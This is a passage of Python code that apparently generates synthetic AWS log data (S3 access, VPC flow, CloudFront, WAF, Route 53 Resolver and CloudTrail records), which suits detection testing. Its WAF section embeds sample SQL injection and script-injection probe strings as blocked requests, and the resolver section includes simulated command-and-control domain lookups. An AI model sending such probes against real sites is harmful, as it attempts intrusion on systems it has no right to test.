    status = ["204" if o.startswith("REST.DELETE") and s == "200" else s for o, s in rows(op, status)]
    status = ["200" if lc else s for lc, s in rows(lifecycle, status)]
    errors = {"403": "AccessDenied", "404": "NoSuchKey", "500": "InternalError", "503": "SlowDown"}
    error = [errors.get(s, "-") for s in status]
    error = [
        "NoSuchBucketPolicy" if e == "NoSuchKey" and o == "REST.GET.BUCKETPOLICY" else e for e, o in rows(error, op)
    ]
    size = lognormal_ints(rng, n, 90_000, 2.2)
    sent = [
        str(z)
        if o in ("REST.GET.OBJECT",) and s in ("200", "206")
        else ("243" if s in ("403", "404") else ("-" if o != "REST.GET.BUCKET" else str(z % 20000 + 300)))
        for o, s, z in rows(op, status, size.tolist())
    ]
    objsize = [
        str(z)
        if o
        in (
            "REST.GET.OBJECT",
            "REST.PUT.OBJECT",
            "REST.HEAD.OBJECT",
            "REST.COPY.OBJECT",
            "S3.EXPIRE.OBJECT",
        )
        and s not in ("403", "404")
        else "-"
        for o, s, z in rows(op, status, size.tolist())
    ]
    total = lognormal_ints(rng, n, 18, 1.2)
    turn = np.minimum(total, lognormal_ints(rng, n, 9, 1.0))
    tls = (rng.random(n) < 0.97).tolist()
    ip_remote = client_ips(rng, n, ctx["seed"], 0.05)
    ip_remote = ["-" if lc else ip for lc, ip in rows(lifecycle, ip_remote)]
    anon = [r == "-" for r in requester]
    sig = [
        "-" if (a or lc) else ("SigV2" if x < 0.01 else "SigV4")
        for a, lc, x in rows(anon, lifecycle, rng.random(n).tolist())
    ]
    auth = [
        "-" if g == "-" else ("QueryString" if "X-Amz-Algorithm" in q else "AuthHeader") for g, q in rows(sig, query)
    ]
    tls_version = pick(rng, n, ["TLSv1.2", "TLSv1.3"], [6, 4])
    host_header = pick(
        rng,
        n,
        [
            f"{bucket}.s3.{REGION}.amazonaws.com",
            f"{bucket}.s3.amazonaws.com",
            f"s3.{REGION}.amazonaws.com",
        ],
        [6, 3, 1],
    )
    return {
        "Bucket Owner": [ctx["owner"]] * n,
        "Bucket": [bucket] * n,
        "Time": when,
        "Remote IP": ip_remote,
        "Requester": requester,
        "Request ID": rand_str(rng, n, 16, HEX_UP),
        "Operation": op,
        "Key": keys,
        "Request-URI": uri,
        "HTTP status": ["-" if lc else s for lc, s in rows(lifecycle, status)],
        "Error Code": error,
        "Bytes Sent": sent,
        "Object Size": objsize,
        "Total Time": ["-" if lc else str(t) for lc, t in rows(lifecycle, total.tolist())],
        "Turn-Around Time": [
            "-" if lc or s in ("403",) else str(t) for lc, s, t in rows(lifecycle, status, turn.tolist())
        ],
        "Referer": quoted(
            pick(
                rng,
                n,
                [
                    "-",
                    "-",
                    "-",
                    "https://www.example.com/",
                    "https://app.example.com/dashboard?tab=files",
                ],
            )
        ),
        "User-Agent": ['"-"' if lc else f'"{u}"' for lc, u in rows(lifecycle, user_agents(rng, n, AWS_AGENTS))],
        "Version Id": pick(rng, n, ["-", "-", "-", "-", "3HL4kqtJlcpXroDTDmJ.rmSpXd3dIbrHY"]),
        "Host Id": [h + "=" for h in rand_str(rng, n, 75, B64)],
        "Signature Version": sig,
        "Cipher Suite": [
            "-" if (lc or not t) else (c13 if v == "TLSv1.3" else c12)
            for t, lc, v, c12, c13 in rows(tls, lifecycle, tls_version, pick(rng, n, TLS12), pick(rng, n, TLS13))
        ],
        "Authentication Type": auth,
        "Host Header": ["-" if lc else h for lc, h in rows(lifecycle, host_header)],
        "TLS version": ["-" if (lc or not t) else v for t, lc, v in rows(tls, lifecycle, tls_version)],
        "Access Point ARN": pick(rng, n, ["-", f"arn:aws:s3:{REGION}:{ACCOUNT}:accesspoint/analytics-ap"], [97, 3]),
        "aclRequired": pick(rng, n, ["-", "Yes"], [98, 2]),
        "Source region": pick(rng, n, ["-", REGION, "us-west-2", "eu-west-1"], [30, 55, 10, 5]),
    }


def vpc_flow(rng: np.random.Generator, n: int, t0: int, ctx: dict) -> dict[str, list[str]]:
    p = pools(ctx["seed"])
    status = pick(rng, n, ["OK", "NODATA", "SKIPDATA"], [99.4, 0.5, 0.1])
    data = [s == "OK" for s in status]
    six = (rng.random(n) < 0.05).tolist()
    local = [b if s else a for a, b, s in rows(pick(rng, n, p["private"]), pick(rng, n, p["v6_private"]), six)]
    remote4 = [
        a if r < 0.6 else b
        for a, b, r in rows(pick(rng, n, p["private"]), zipf_pick(rng, n, p["v4"], 1.05), rng.random(n).tolist())
    ]
    remote = [b if s else a for a, b, s in rows(remote4, zipf_pick(rng, n, p["v6"]), six)]
    inbound = (rng.random(n) < 0.5).tolist()  # the remote side started the flow
    reply = (rng.random(n) < 0.45).tolist()  # the flow carries the server's answers
    proto = pick(rng, n, ["6", "17", "1", "58"], [80, 17, 2.5, 0.5])
    proto = [("58" if s else "1") if x in ("1", "58") else x for x, s in rows(proto, six)]
    service = pick(
        rng,
        n,
        ["443", "80", "22", "3389", "53", "5432", "3306", "6379", "123", "8080"],
        [50, 10, 4, 2, 10, 6, 5, 4, 3, 6],
    )
    eph = ints(rng, n, 1024, 65536)
    icmp = [x in ("1", "58") for x in proto]
    client = [r if i else lo for i, lo, r in rows(inbound, local, remote)]
    server = [lo if i else r for i, lo, r in rows(inbound, local, remote)]
    src = [s if r else c for r, c, s in rows(reply, client, server)]
    dst = [c if r else s for r, c, s in rows(reply, client, server)]
    sport = ["0" if c else (s if r else e) for c, r, e, s in rows(icmp, reply, eph, service)]
    dport = ["0" if c else (e if r else s) for c, r, e, s in rows(icmp, reply, eph, service)]
    packets = lognormal_ints(rng, n, 8, 1.5)
    size = packets * rng.integers(40, 1500, n)
    start = np.sort(rng.integers(t0, t0 + ctx["window"], n))
    end = start + rng.integers(1, 60, n)
    action = pick(rng, n, ["ACCEPT", "REJECT"], [88, 12])
    enis = [f"eni-{h}" for h in rand_str(rng, 40, 17)]

    def data_only(values: list[str]) -> list[str]:
        return choose(data, values, "-")

    return {
        "version": ["2"] * n,
        "account-id": [ACCOUNT] * n,
        "interface-id": zipf_pick(rng, n, enis, 0.8),
        "srcaddr": data_only(src),
        "dstaddr": data_only(dst),
        "srcport": data_only(sport),
        "dstport": data_only(dport),
        "protocol": data_only(proto),
        "packets": data_only(packets.astype(str).tolist()),
        "bytes": data_only(size.astype(str).tolist()),
        "start": start.astype(str).tolist(),
        "end": end.astype(str).tolist(),
        "action": data_only(action),
        "log-status": status,
    }


def cloudfront(rng: np.random.Generator, n: int, t0: int, ctx: dict) -> dict[str, list[str]]:
    us = sorted_times(rng, n, t0, ctx["window"])
    text = np.datetime_as_string(us.astype("datetime64[us]").astype("datetime64[s]"), unit="s").tolist()
    full = paths(rng, n)
    stem = [u.split("?", 1)[0] for u in full]
    query = [u.split("?", 1)[1] if "?" in u else "-" for u in full]
    result = pick(
        rng,
        n,
        [
            "Hit",
            "Miss",
            "RefreshHit",
            "Error",
            "Redirect",
            "LimitExceeded",
            "FunctionGeneratedResponse",
        ],
        [55, 30, 4, 6, 3, 0.2, 1.8],
    )
    status = []
    for r, x in rows(result, rng.random(n).tolist()):
        if r == "Error":
            status.append(
                "403" if x < 0.4 else ("404" if x < 0.75 else ("502" if x < 0.9 else ("504" if x < 0.97 else "000")))
            )
        elif r == "Redirect":
            status.append("301")
        elif r == "LimitExceeded":
            status.append("503")
        else:
            status.append("304" if x < 0.08 else ("206" if x < 0.1 else "200"))
    detailed = [
        "ClientGeoBlocked"
        if r == "Error" and s == "403" and x < 0.3
        else ("OriginDnsError" if s == "502" and x < 0.5 else ("ClientCommError" if s == "000" else r))
        for r, s, x in rows(result, status, rng.random(n).tolist())
    ]
    proto = pick(rng, n, ["https", "http", "wss"], [92, 7, 1])
    tls = [p != "http" for p in proto]
    v13 = (rng.random(n) < 0.6).tolist()
    uas = user_agents(rng, n)
    enc = {u: urllib.parse.quote(u, safe="/;:()+,.=-_*!'~") for u, _ in USER_AGENTS}
    taken = rng.lognormal(np.log(0.04), 1.2, n)
    ttfb = taken * rng.uniform(0.3, 0.98, n)
    ctype = pick(
        rng,
        n,
        [
            "text/html",
            "application/json",
            "image/jpeg",
            "application/javascript",
            "text/css",
            "image/png",
            "-",
        ],
        [25, 25, 20, 12, 8, 8, 2],
    )
    clen = lognormal_ints(rng, n, 5000, 1.8)
    ranged = [s == "206" for s in status]
    dist = ctx["dist"]
    return {
        "date": [s[:10] for s in text],
        "time": [s[11:19] for s in text],
        "x-edge-location": zipf_pick(rng, n, EDGES, 1.0),
        "sc-bytes": (clen + rng.integers(250, 700, n)).astype(str).tolist(),
        "c-ip": client_ips(rng, n, ctx["seed"], 0.08),
        "cs-method": pick(rng, n, *METHODS),
        "cs(Host)": [f"{dist.lower()}.cloudfront.net"] * n,
        "cs-uri-stem": stem,
        "sc-status": status,
        "cs(Referer)": pick(
            rng,
            n,
            [
                "-",
                "https://www.example.com/",
                "https://www.example.com/products/42",
                "https://www.google.com/",
            ],
            [50, 25, 15, 10],
        ),
        "cs(User-Agent)": [enc[u] for u in uas],
        "cs-uri-query": query,
        "cs(Cookie)": pick(rng, n, ["-", "session-id=abc123;%20theme=dark"], [95, 5]),
        "x-edge-result-type": result,
        "x-edge-request-id": [r + "==" for r in rand_str(rng, n, 54, B64URL)],
        "x-host-header": pick(
            rng,
            n,
            ["www.example.com", "media.example.com", f"{dist.lower()}.cloudfront.net"],
            [70, 25, 5],
        ),
        "cs-protocol": proto,
        "cs-bytes": lognormal_ints(rng, n, 380, 0.6).astype(str).tolist(),
        "time-taken": secs(taken),
        "x-forwarded-for": pick(rng, n, ["-", "203.0.113.9", "198.51.100.23, 10.0.0.7"], [96, 3, 1]),
        "ssl-protocol": [("TLSv1.3" if t3 else "TLSv1.2") if t else "-" for t, t3 in rows(tls, v13)],
        "ssl-cipher": [
            (c3 if t3 else c2) if t else "-"
            for t, t3, c3, c2 in rows(tls, v13, pick(rng, n, TLS13), pick(rng, n, TLS12))
        ],
        "x-edge-response-result-type": result,
        "cs-protocol-version": pick(rng, n, ["HTTP/2.0", "HTTP/1.1", "HTTP/3.0"], [60, 30, 10]),
        "fle-status": ["-"] * n,
        "fle-encrypted-fields": ["-"] * n,
        "c-port": ints(rng, n, 1024, 65536),
        "time-to-first-byte": secs(ttfb),
        "x-edge-detailed-result-type": detailed,
        "sc-content-type": ctype,
        "sc-content-len": [str(c) if t != "-" else "-" for c, t in rows(clen.tolist(), ctype)],
        "sc-range-start": choose(ranged, ["0"] * n, "-"),
        "sc-range-end": choose(ranged, (clen - 1).astype(str).tolist(), "-"),
    }


# ---- JSON formats: columns of serialized values (None: key absent) -------------------------


def J(value: object) -> str:  # AWS writes compact JSON
    return json.dumps(value, separators=(",", ":"))


def waf(rng: np.random.Generator, n: int, t0: int, ctx: dict) -> dict[str, list[str | None]]:
    us = sorted_times(rng, n, t0, ctx["window"])
    ms = (us // 1000).astype(str).tolist()
    fate = pick(
        rng,
        n,
        ["allow", "sqli", "xss", "rate", "ip_rep", "bot_count", "geo", "captcha"],
        [88, 1.5, 0.7, 2, 1.5, 5, 0.8, 0.5],
    )
    acl_name = ctx["acl"]
    acl = J(f"arn:aws:wafv2:{REGION}:{ACCOUNT}:regional/webacl/{acl_name}/a1b2c3d4-5678-90ab-cdef-0123456789ab")
    rg_common = {
        "ruleGroupId": "AWS#AWSManagedRulesCommonRuleSet",
        "terminatingRule": None,
        "nonTerminatingMatchingRules": [],
        "excludedRules": None,
    }
    rg_sqli = {
        "ruleGroupId": "AWS#AWSManagedRulesSQLiRuleSet",
        "terminatingRule": {
            "ruleId": "SQLi_QUERYARGUMENTS",
            "action": "BLOCK",
            "ruleMatchDetails": None,
        },
        "nonTerminatingMatchingRules": [],
        "excludedRules": None,
    }
    rg_xss = {
        "ruleGroupId": "AWS#AWSManagedRulesCommonRuleSet",
        "terminatingRule": {
            "ruleId": "CrossSiteScripting_QUERYARGUMENTS",
            "action": "BLOCK",
            "ruleMatchDetails": None,
        },
        "nonTerminatingMatchingRules": [],
        "excludedRules": None,
    }
    rg_iprep = {
        "ruleGroupId": "AWS#AWSManagedRulesAmazonIpReputationList",
        "terminatingRule": {
            "ruleId": "AWSManagedIPReputationList",
            "action": "BLOCK",
            "ruleMatchDetails": None,
        },
        "nonTerminatingMatchingRules": [],
        "excludedRules": None,
    }
    rg_bot = {
        "ruleGroupId": "AWS#AWSManagedRulesBotControlRuleSet",
        "terminatingRule": None,
        "nonTerminatingMatchingRules": [
            {
                "ruleId": "CategoryHttpLibrary",
                "action": "COUNT",
                "overriddenAction": "BLOCK",
                "ruleMatchDetails": [],
            }
        ],
        "excludedRules": None,
    }
    rate = {
        "rateBasedRuleId": f"arn:aws:wafv2:{REGION}:{ACCOUNT}:regional/ipset/rate-limit-per-ip_IPV4/d4e5f6a7-8901-23ab-cdef-0123456789ab",  # noqa: E501
        "rateBasedRuleName": "rate-limit-per-ip",
        "limitKey": "IP",
        "maxRateAllowed": 300,
        "evaluationWindowSec": "300",
    }
    plan = {  # fate -> (terminatingRuleId, type, action, matchDetails, ruleGroupList, rate list, labels, response code)
        "allow": ("Default_Action", "REGULAR", "ALLOW", [], [rg_common], [], [], None),
        "sqli": (
            "AWS-AWSManagedRulesSQLiRuleSet",
            "MANAGED_RULE_GROUP",
            "BLOCK",
            [
                {
                    "conditionType": "SQL_INJECTION",
                    "sensitivityLevel": "LOW",
                    "location": "QUERY_STRING",
                    "matchedData": ["1", "OR", "1=1"],
                }
            ],
            [rg_common, rg_sqli],
            [],
            [{"name": "awswaf:managed:aws:sql-database:SQLi_QueryArguments"}],
            None,
        ),
        "xss": (
            "AWS-AWSManagedRulesCommonRuleSet",
            "MANAGED_RULE_GROUP",
            "BLOCK",
            [{"conditionType": "XSS", "location": "QUERY_STRING", "matchedData": ["<", "script"]}],
            [rg_xss],
            [],
            [{"name": "awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments"}],
            None,
        ),
        "rate": ("rate-limit-per-ip", "RATE_BASED", "BLOCK", [], [rg_common], [rate], [], 429),
        "ip_rep": (
            "AWS-AWSManagedRulesAmazonIpReputationList",
            "MANAGED_RULE_GROUP",
            "BLOCK",
            [],
            [rg_iprep],
            [],
            [{"name": "awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList"}],
            None,
        ),
        "bot_count": (
            "Default_Action",
            "REGULAR",
            "ALLOW",
            [],
            [rg_common, rg_bot],
            [],
            [
                {"name": "awswaf:managed:aws:bot-control:bot:category:http_library"},
                {"name": "awswaf:managed:aws:bot-control:signal:non_browser_user_agent"},
            ],
            None,
        ),
        "geo": (
            "block-sanctioned-countries",
            "REGULAR",
            "BLOCK",
            [],
            [],
            [],
            [{"name": f"awswaf:{ACCOUNT}:webacl:{acl_name}:geo-block"}],
            None,
        ),
        "captcha": (
            "captcha-login",
            "REGULAR",
            "CAPTCHA",
            [],
            [],
            [],
            [{"name": "awswaf:managed:captcha:rejected"}],
            405,
        ),
    }
    cache_: dict[str, tuple[str, ...]] = {}
    for k, (rid, rtype, action, md, rgl, rbl, labels, code) in plan.items():
        cache_[k] = (J(rid), J(rtype), J(action), J(md), J(rgl), J(rbl), J(labels), J(code))
    planned = [cache_[f] for f in fate]
    ips = client_ips(rng, n, ctx["seed"], 0.07)
    uas = user_agents(rng, n)
    method = pick(rng, n, *METHODS)
    host = pick(rng, n, HOSTS)
    full = paths(rng, n)
    full = [
        (
            "/products?id=1%20OR%201=1"
            if f == "sqli"
            else ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E" if f == "xss" else u)
        )
        for f, u in rows(fate, full)
    ]
    uri = [J(u.split("?", 1)[0]) for u in full]
    args = [J(u.split("?", 1)[1]) if "?" in u else '""' for u in full]
    lang = pick(
        rng,
        n,
        [
            '{"name":"Accept-Language","value":"en-US,en;q=0.9"},',
            '{"name":"Accept-Language","value":"de-DE,de;q=0.9,en;q=0.8"},',
            "",
        ],
    )
    cookie = pick(rng, n, ['{"name":"Cookie","value":"session=' + "a" * 24 + '; theme=dark"},', ""], [3, 7])
    headers = [
        f'[{{"name":"Host","value":{J(h)}}},{{"name":"User-Agent","value":{J(u)}}},{{"name":"Accept","value":"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"}},{lg}{c}{{"name":"Accept-Encoding","value":"gzip, deflate, br"}}]'  # noqa: E501
        for h, u, lg, c in rows(host, uas, lang, cookie)
    ]
    rid = rand_str(rng, n, 24)
    epoch_hex = [f"{s:08x}" for s in (us // 1_000_000).tolist()]
    http = [
        f'{{"clientIp":{J(ip)},"country":{J(cc)},"headers":{hd},"uri":{u},"args":{a},"httpVersion":{J(v)},"httpMethod":{J(m)},"requestId":"1-{e}-{r}","fragment":"","scheme":"https","host":{J(h)}}}'
        for ip, cc, hd, u, a, v, m, e, r, h in rows(
            ips,
            zipf_pick(rng, n, COUNTRIES, 1.0),
            headers,
            uri,
            args,
            pick(rng, n, ["HTTP/2.0", "HTTP/1.1"], [6, 4]),
            method,
            epoch_hex,
            rid,
            host,
        )
    ]
    body = [
        str(b) if m in ("POST", "PUT", "PATCH") else "0"
        for m, b in rows(method, lognormal_ints(rng, n, 900, 1.3).tolist())
    ]
    captcha = [('{"responseCode":405,"failureReason":"TOKEN_MISSING"}' if f == "captcha" else None) for f in fate]
    ja3 = rand_str(rng, 60, 32)
    ja4 = [
        f"t13d{a}h2_{b}_{c}"
        for a, b, c in rows(ints(rng, 60, 1000, 2000), rand_str(rng, 60, 12), rand_str(rng, 60, 12))
    ]
    src = pick(rng, n, ["ALB", "CF", "APIGW"], [6, 3, 1])
    src_id = {
        "ALB": J(f"{ACCOUNT}-app/my-loadbalancer/50dc6c495c0c9188"),
        "CF": J("E1A2B3C4D5E6F7"),
        "APIGW": J(f"{ACCOUNT}:a1b2c3d4e5:prod"),
    }
    jaidx = rng.integers(0, 60, n).tolist()
    return {
        "timestamp": ms,
        "formatVersion": ["1"] * n,
        "webaclId": [acl] * n,
        "terminatingRuleId": [r[0] for r in planned],
        "terminatingRuleType": [r[1] for r in planned],
        "action": [r[2] for r in planned],
        "terminatingRuleMatchDetails": [r[3] for r in planned],
        "httpSourceName": [J(s) for s in src],
        "httpSourceId": [src_id[s] for s in src],
        "ruleGroupList": [r[4] for r in planned],
        "rateBasedRuleList": [r[5] for r in planned],
        "nonTerminatingMatchingRules": ["[]"] * n,
        "requestHeadersInserted": ["null"] * n,
        "responseCodeSent": [r[7] for r in planned],
        "httpRequest": http,
        "labels": [r[6] for r in planned],
        "captchaResponse": captcha,
        "challengeResponse": [None] * n,
        "ja3Fingerprint": [J(ja3[i]) if s != "APIGW" else None for i, s in rows(jaidx, src)],
        "ja4Fingerprint": [J(ja4[i]) if s != "APIGW" else None for i, s in rows(jaidx, src)],
        "oversizeFields": pick(rng, n, ["[]", '["REQUEST_BODY"]'], [999, 1]),
        "requestBodySize": body,
        "requestBodySizeInspectedByWAF": [str(min(int(b), 8192)) for b in body],
        "cfDistributionTenantId": [None] * n,
    }


QUERY_NAMES = [  # name, type, weight
    ("sts.us-east-1.amazonaws.com.", "A", 8),
    ("s3.us-east-1.amazonaws.com.", "A", 10),
    ("ec2.us-east-1.amazonaws.com.", "A", 4),
    ("secretsmanager.us-east-1.amazonaws.com.", "A", 3),
    ("dynamodb.us-east-1.amazonaws.com.", "A", 5),
    ("logs.us-east-1.amazonaws.com.", "A", 4),
    ("ssm.us-east-1.amazonaws.com.", "A", 3),
    ("169.254.169.254.in-addr.arpa.", "PTR", 1),
    ("db1.corp.internal.", "A", 6),
    ("cache.corp.internal.", "A", 4),
    ("api.github.com.", "A", 3),
    ("registry.npmjs.org.", "A", 2),
    ("pypi.org.", "AAAA", 2),
    ("files.pythonhosted.org.", "A", 2),
    ("www.google.com.", "AAAA", 2),
    ("_ldap._tcp.corp.internal.", "SRV", 1),
    ("example.com.", "MX", 0.5),
    ("example.com.", "TXT", 0.5),
    ("ntp.ubuntu.com.", "A", 1),
    ("api.example.com.", "HTTPS", 1),
    ("missing.corp.internal.", "A", 1.5),
]


def route53_resolver(rng: np.random.Generator, n: int, t0: int, ctx: dict) -> dict[str, list[str | None]]:
    us = sorted_times(rng, n, t0, ctx["window"])
    p = pools(ctx["seed"])
    qs = pick(rng, n, QUERY_NAMES, [w for *_, w in QUERY_NAMES])
    dga = (rng.random(n) < 0.01).tolist()
    blocked = (rng.random(n) < 0.004).tolist()
    labels = rand_str(rng, n, 14, np.array(list("abcdefghijklmnopqrstuvwxyz0123456789")))
    names = [f"{lb}.example-c2.net." if d else q[0] for d, lb, q in rows(dga, labels, qs)]
    names = ["malware.example.com." if b else x for b, x in rows(blocked, names)]
    qtype = ["TXT" if d else ("A" if b else q[1]) for d, b, q in rows(dga, blocked, qs)]
    rcode = []
    for nm, d, b, x in rows(names, dga, blocked, rng.random(n).tolist()):
        rcode.append("NXDOMAIN" if d or b or nm.startswith("missing.") else ("SERVFAIL" if x < 0.003 else "NOERROR"))
    a4, a6 = zipf_pick(rng, n, p["v4"], 1.1), zipf_pick(rng, n, p["v6"], 1.1)
    answers = []
    for nm, t, rc, x4, x6 in rows(names, qtype, rcode, a4, a6):
        if rc != "NOERROR":
            answers.append("[]")
        elif t == "A":
            ip = x4 if not nm.endswith("internal.") else "10.0.5.34"
            answers.append(f'[{{"Rdata":"{ip}","Type":"A","Class":"IN"}}]')
        elif t == "AAAA":
            answers.append(f'[{{"Rdata":"{x6}","Type":"AAAA","Class":"IN"}}]')
        elif t == "PTR":
            answers.append('[{"Rdata":"instance-data.ec2.internal.","Type":"PTR","Class":"IN"}]')
        elif t == "SRV":
            answers.append('[{"Rdata":"0 100 389 dc1.corp.internal.","Type":"SRV","Class":"IN"}]')
        elif t == "MX":
            answers.append('[{"Rdata":"10 inbound-smtp.us-east-1.amazonaws.com.","Type":"MX","Class":"IN"}]')
        elif t == "TXT":
            answers.append('[{"Rdata":"\\"v=spf1 include:amazonses.com ~all\\"","Type":"TXT","Class":"IN"}]')
        else:
            answers.append(
                f'[{{"Rdata":"{nm}cdn.example.net.","Type":"CNAME","Class":"IN"}},{{"Rdata":"{x4}","Type":"A","Class":"IN"}}]'
            )
    six = (rng.random(n) < 0.03).tolist()
    src = [b if s else a for a, b, s in rows(pick(rng, n, p["private"][:80]), pick(rng, n, p["v6_private"]), six)]
    instances = [f"i-0{h}" for h in rand_str(rng, 50, 16)]
    via_endpoint = (rng.random(n) < 0.05).tolist()
    srcids = [
        '{"resolver_endpoint":"rslvr-in-0a1b2c3d4e5f6a7b8","resolver_network_interface":"rni-0f1e2d3c4b5a69788"}'
        if v
        else f'{{"instance":"{i}"}}'
        for v, i in rows(via_endpoint, zipf_pick(rng, n, instances, 1.0))
    ]
    alert = [b or (d and x < 0.5) for b, d, x in rows(blocked, dga, rng.random(n).tolist())]
    return {
        "version": [J("1.100000")] * n,
        "account_id": [J(ACCOUNT)] * n,
        "region": [J(REGION)] * n,
        "vpc_id": [J(ctx["vpc"])] * n,
        "query_timestamp": [J(t) for t in iso(us, "s")],
        "query_name": [J(x) for x in names],
        "query_type": [J(x) for x in qtype],
        "query_class": ['"IN"'] * n,
        "rcode": [J(x) for x in rcode],
        "answers": answers,
        "srcaddr": [J(x) for x in src],
        "srcport": [J(x) for x in ints(rng, n, 1024, 65536)],
        "transport": pick(rng, n, ['"UDP"', '"TCP"'], [97, 3]),
        "srcids": srcids,
        "firewall_rule_group_id": [('"rslvr-frg-0123456789abcdef"' if a else None) for a in alert],
        "firewall_rule_action": [('"BLOCK"' if b else '"ALERT"') if a else None for a, b in rows(alert, blocked)],
        "firewall_domain_list_id": [('"rslvr-fdl-0123456789abcdef"' if a else None) for a in alert],
    }


# ---- CloudTrail: records as dicts (nested, varied), one compact JSON document per file -------

ROLES = [
    ("app-backend-role", "i-0a1b2c3d4e5f60718"),
    ("github-actions-deploy", "GitHubActions"),
    ("AWSReservedSSO_AdministratorAccess_5b2f3e1a9c8d7e6f", "alice@example.com"),
    ("AWSReservedSSO_ReadOnly_0c1d2e3f4a5b6c7d", "bob@example.com"),
    ("lambda-orders-processor", "orders-processor"),
    ("OrganizationAccountAccessRole", "admin-break-glass"),
    ("eks-node-group-role", "i-0f9e8d7c6b5a49382"),
]
USERS = ["deploy-bot", "alice", "bob", "ci-legacy", "terraform"]
SERVICES = [
    "ec2.amazonaws.com",
    "lambda.amazonaws.com",
    "cloudformation.amazonaws.com",
    "autoscaling.amazonaws.com",
    "config.amazonaws.com",
    "elasticloadbalancing.amazonaws.com",
    "ssm.amazonaws.com",
]


def _identity(kind: str, rng_vals: dict, when: str) -> dict:
    a = rng_vals["account"]
    if kind == "AssumedRole":
        role, session = rng_vals["role"]
        return {
            "type": "AssumedRole",
            "principalId": f"AROA3XFRBF535PLBIFPI4:{session}",
            "arn": f"arn:aws:sts::{a}:assumed-role/{role}/{session}",
            "accountId": a,
            "accessKeyId": "ASIA" + rng_vals["key"],
            "sessionContext": {
                "sessionIssuer": {
                    "type": "Role",
                    "principalId": "AROA3XFRBF535PLBIFPI4",
                    "arn": f"arn:aws:iam::{a}:role/{role}",
                    "accountId": a,
                    "userName": role,
                },
                "attributes": {"creationDate": when, "mfaAuthenticated": "false"},
            },
        }
    if kind == "IAMUser":
        user = rng_vals["user"]
        return {
            "type": "IAMUser",
            "principalId": "AIDA" + rng_vals["key"][:17],
            "arn": f"arn:aws:iam::{a}:user/{user}",
            "accountId": a,
            "accessKeyId": "AKIA" + rng_vals["key"],
            "userName": user,
        }
    if kind == "Root":
        return {
            "type": "Root",
            "principalId": a,
            "arn": f"arn:aws:iam::{a}:root",
            "accountId": a,
            "accessKeyId": "",
        }
    if kind == "AWSService":
        return {"type": "AWSService", "invokedBy": rng_vals["service"]}
    if kind == "AWSAccount":
        return {
            "type": "AWSAccount",
            "principalId": "AIDA" + rng_vals["key"][:17],
            "accountId": OTHER_ACCOUNTS[1],
        }
    raise ValueError(kind)


EVENTS = [  # (eventSource, eventName, weight, readOnly, category, identity kinds)
    ("ec2.amazonaws.com", "DescribeInstances", 8, True, "Management", "AR"),
    ("s3.amazonaws.com", "GetObject", 14, True, "Data", "AR"),
    ("s3.amazonaws.com", "PutObject", 6, False, "Data", "AR"),
    ("s3.amazonaws.com", "ListBuckets", 1.5, True, "Management", "ARU"),
    ("s3.amazonaws.com", "GetBucketAcl", 3, True, "Management", "S"),
    ("kms.amazonaws.com", "Decrypt", 9, True, "Management", "S"),
    ("kms.amazonaws.com", "GenerateDataKey", 4, True, "Management", "S"),
    ("sts.amazonaws.com", "AssumeRole", 7, True, "Management", "ARS"),
    ("sts.amazonaws.com", "GetCallerIdentity", 3, True, "Management", "ARU"),
    ("logs.amazonaws.com", "CreateLogStream", 3, False, "Management", "AR"),
    ("lambda.amazonaws.com", "Invoke", 4, False, "Data", "AR"),
    ("dynamodb.amazonaws.com", "DescribeTable", 3, True, "Management", "AR"),
    ("ssm.amazonaws.com", "GetParameter", 4, True, "Management", "AR"),
    ("secretsmanager.amazonaws.com", "GetSecretValue", 2, True, "Management", "AR"),
    ("iam.amazonaws.com", "ListRoles", 1, True, "Management", "ARU"),
    ("iam.amazonaws.com", "CreateAccessKey", 0.2, False, "Management", "ARU"),
    ("iam.amazonaws.com", "CreateUser", 0.1, False, "Management", "AR"),
    ("iam.amazonaws.com", "AttachRolePolicy", 0.2, False, "Management", "AR"),
    ("iam.amazonaws.com", "PutRolePolicy", 0.1, False, "Management", "AR"),
    ("ec2.amazonaws.com", "RunInstances", 0.5, False, "Management", "AR"),
    ("ec2.amazonaws.com", "AuthorizeSecurityGroupIngress", 0.2, False, "Management", "AR"),
    ("ec2.amazonaws.com", "DescribeSecurityGroups", 3, True, "Management", "AR"),
    ("cloudtrail.amazonaws.com", "LookupEvents", 0.5, True, "Management", "AR"),
    ("cloudtrail.amazonaws.com", "StopLogging", 0.02, False, "Management", "AR"),
    ("signin.amazonaws.com", "ConsoleLogin", 0.6, False, "Management", "UARt"),
    ("guardduty.amazonaws.com", "ListDetectors", 0.5, True, "Management", "S"),
    ("elasticloadbalancing.amazonaws.com", "DescribeTargetHealth", 2, True, "Management", "S"),
]


def _request(source: str, name: str, v: dict) -> tuple[dict | None, dict | None, dict | None, list | None]:
    """requestParameters, responseElements, additionalEventData, resources of one event."""
    a, bucket = ACCOUNT, "amzn-s3-demo-bucket1"
    key = v["s3key"]
    if name in ("GetObject", "PutObject"):
        req = {"bucketName": bucket, "Host": f"{bucket}.s3.{REGION}.amazonaws.com", "key": key}
        if name == "PutObject":
            req["x-amz-server-side-encryption"] = "aws:kms"
        extra = {
            "SignatureVersion": "SigV4",
            "CipherSuite": "TLS_AES_128_GCM_SHA256",
            "bytesTransferredIn": 0 if name == "GetObject" else v["size"],
            "AuthenticationMethod": "AuthHeader",
            "x-amz-id-2": v["hostid"],
            "bytesTransferredOut": v["size"] if name == "GetObject" else 0,
        }
        res = [
            {"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::{bucket}/{key}"},
            {"accountId": a, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{bucket}"},
        ]
        resp = {"x-amz-server-side-encryption": "aws:kms"} if name == "PutObject" else None
        return req, resp, extra, res
    if name == "ListBuckets":
        return (
            {"Host": f"s3.{REGION}.amazonaws.com"},
            None,
            {"SignatureVersion": "SigV4", "AuthenticationMethod": "AuthHeader"},
            None,
        )
    if name == "GetBucketAcl":
        return (
            {"bucketName": bucket, "Host": f"{bucket}.s3.amazonaws.com", "acl": ""},
            None,
            {"SignatureVersion": "SigV4", "bytesTransferredIn": 0, "bytesTransferredOut": 540},
            [{"accountId": a, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{bucket}"}],
        )
    if name == "DescribeInstances":
        return (
            {
                "instancesSet": {},
                "filterSet": {"items": [{"name": "tag:Environment", "valueSet": {"items": [{"value": "prod"}]}}]},
            },
